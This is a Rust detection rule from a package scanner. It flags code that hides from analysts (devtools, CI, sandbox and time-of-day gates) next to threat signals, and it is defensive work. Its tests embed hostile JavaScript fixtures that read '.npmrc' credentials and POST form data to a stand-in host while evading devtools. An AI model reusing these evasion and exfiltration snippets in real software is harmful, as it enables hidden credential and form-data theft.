//! `code/analysis-evasion`.

use super::{chain, finding};
use crate::CodeFinding;
use crate::signal::{Kind, PackageFacts};
use crate::verdict::Locality;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// Code that hides from analysts: devtools, localhost, CI, time-of-day and sandbox checks or detached silent children, next to a threat.
    ///
    /// ## What it detects
    /// Devtools-open checks (`outerWidth - innerWidth`, `debugger` traps), the page's host compared with
    /// `localhost`, sandbox checks (CPU count, memory or uptime compared with a small number), `process.env.CI`
    /// gates, `getHours()` gates and comparisons of the clock with a fixed date, and detached children with
    /// ignored stdio — in a file that also has a threat signal, or (for the devtools, localhost, sandbox and time
    /// checks) anywhere in a package where a sensitive value reaches a send or data reaches code. The scoring
    /// model raises the package's score by half when this rule fires next to another threat; evasion never
    /// lowers a score.
    ///
    /// ## Why it matters
    /// Payloads stay quiet in CI sandboxes and while a developer watches (the 2018 "harvesting credit cards" story
    /// went silent with devtools open), so dynamic analysis never sees them.
    ///
    /// ## Example
    /// `if (process.env.CI) return; fs.readFileSync(home + '/.npmrc')`
    ///
    /// ## Known false positives
    /// Many tools skip work in CI or detach update checks; alone these are never reported. Low severity: the rule
    /// only adds weight to an existing threat.
    pub static ANALYSIS_EVASION = { id: "code/analysis-evasion", severity: Severity::Low };
}

const THREATS: &[Kind] = &[
    Kind::CredentialPath,
    Kind::EnvDump,
    Kind::Endpoint,
    Kind::ReverseShell,
    Kind::PersistencePath,
    Kind::DecodeExec,
    Kind::CookieRead,
    Kind::StorageRead,
    Kind::HiddenCode,
    Kind::RemoteExec,
];

/// One finding per file that has an evasion signal next to a threat.
/// Gates that hide from people and sandboxes (not CI skips, which many tools have).
const HIDING: &[Kind] = &[Kind::DevtoolsGate, Kind::SandboxGate, Kind::TimeGate];

pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    // A complete path from a sensitive source to a send, or from received/decoded data to code.
    let proven = p.flows.paths.iter().any(|x| {
        use crate::flow::{SinkKind, SourceKind};
        match x.sink {
            SinkKind::Network | SinkKind::Dns => !matches!(
                x.source,
                SourceKind::NetworkData | SourceKind::Decoded | SourceKind::PackageData
            ),
            SinkKind::Eval | SinkKind::Exec | SinkKind::Require => matches!(
                x.source,
                SourceKind::NetworkData | SourceKind::Decoded | SourceKind::Deciphered
            ),
            SinkKind::FileWrite | SinkKind::Wallet | SinkKind::WorkerScript => false,
        }
    });
    let mut out = Vec::new();
    for f in &p.files {
        let Some(s) = f.signals.iter().find(|s| {
            matches!(
                s.kind,
                Kind::DevtoolsGate
                    | Kind::CiGate
                    | Kind::TimeGate
                    | Kind::DetachedSpawn
                    | Kind::SandboxGate
            )
        }) else {
            continue;
        };
        // A CI check, or any check in a bundle, counts only in the threat's own function: many
        // tools skip work in CI, and a bundle's modules share the file.
        let strict = s.kind == Kind::CiGate || super::is_bundle(f);
        let near = f.signals.iter().any(|t| {
            THREATS.contains(&t.kind)
                && (!strict
                    || f.signals
                        .iter()
                        .any(|g| g.func == t.func && g.kind == s.kind))
        });
        let hiding = f.signals.iter().find(|s| HIDING.contains(&s.kind));
        let s = match (near, hiding) {
            (true, _) => s,
            (false, Some(h)) if proven => h,
            _ => continue,
        };
        let msg = format!(
            "evasion ({}) in a file with threat signals",
            s.kind.as_str()
        );
        out.push(finding(
            &ANALYSIS_EVASION,
            ANALYSIS_EVASION.default_severity,
            f,
            s,
            Locality::File,
            msg,
            chain(p, f, s, THREATS),
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use crate::rules::test_util::{PJ, hits, scan};

    #[test]
    fn positive() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "a.js",
                "const fs = require('fs');\nif (process.env.CI) return;\nfs.readFileSync('.npmrc');\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/analysis-evasion"),
            vec![("a.js".to_string(), 2)]
        );
    }

    /// The harvester hides from devtools in one module and sends form data from another.
    #[test]
    fn positive_devtools_gate_apart_from_the_send() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "gate.js",
                "export function watched() {\n  return window.outerWidth - window.innerWidth > 160 || location.hostname === 'localhost';\n}\n",
            ),
            (
                "send.js",
                "import { watched } from './gate.js';\ndocument.addEventListener('submit', (e) => {\n  if (watched()) return;\n  const d = new FormData(e.target);\n  fetch('https://c.example.com/f', { method: 'POST', body: d });\n});\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/analysis-evasion"),
            vec![("gate.js".to_string(), 2)],
            "{:#?}",
            s.findings
        );
    }

    #[test]
    fn negative_ci_skip_alone() {
        let s = scan(&[
            ("package.json", PJ),
            ("a.js", "if (process.env.CI) { console.log('skip'); }\n"),
        ]);
        assert!(hits(&s, "code/analysis-evasion").is_empty());
    }

    /// Office hours as a gate: the hour of day, bound to a name, compared with hours.
    #[test]
    fn positive_hour_of_day_gate_next_to_a_threat() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "a.js",
                "const fs = require('fs');\nfunction quiet() {\n  const hr = new Date().getHours();\n  return hr >= 19 || hr < 7;\n}\nif (quiet()) fs.readFileSync(require('os').homedir() + '/.npmrc');\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/analysis-evasion"),
            vec![("a.js".to_string(), 4)]
        );
    }

    /// Date formatting reads the hour and pads it (`h < 10`) or picks AM/PM (`h >= 12`): no
    /// gate (vite 2.7's bundled date formatter beside its dev server's network code).
    #[test]
    fn negative_hour_formatting() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "a.js",
                "const fs = require('fs');\nfunction fmt(d) {\n  const h = d.getUTCHours();\n  const out = [];\n  out.push('' + d.getUTCHours());\n  out.push((h < 10 ? '0' : '') + h, h >= 12 ? 'PM' : 'AM');\n  return out.join(':');\n}\nfs.readFileSync(require('os').homedir() + '/.npmrc');\nmodule.exports = fmt;\n",
            ),
        ]);
        assert!(
            hits(&s, "code/analysis-evasion").is_empty(),
            "{:?}",
            s.findings
        );
    }
}
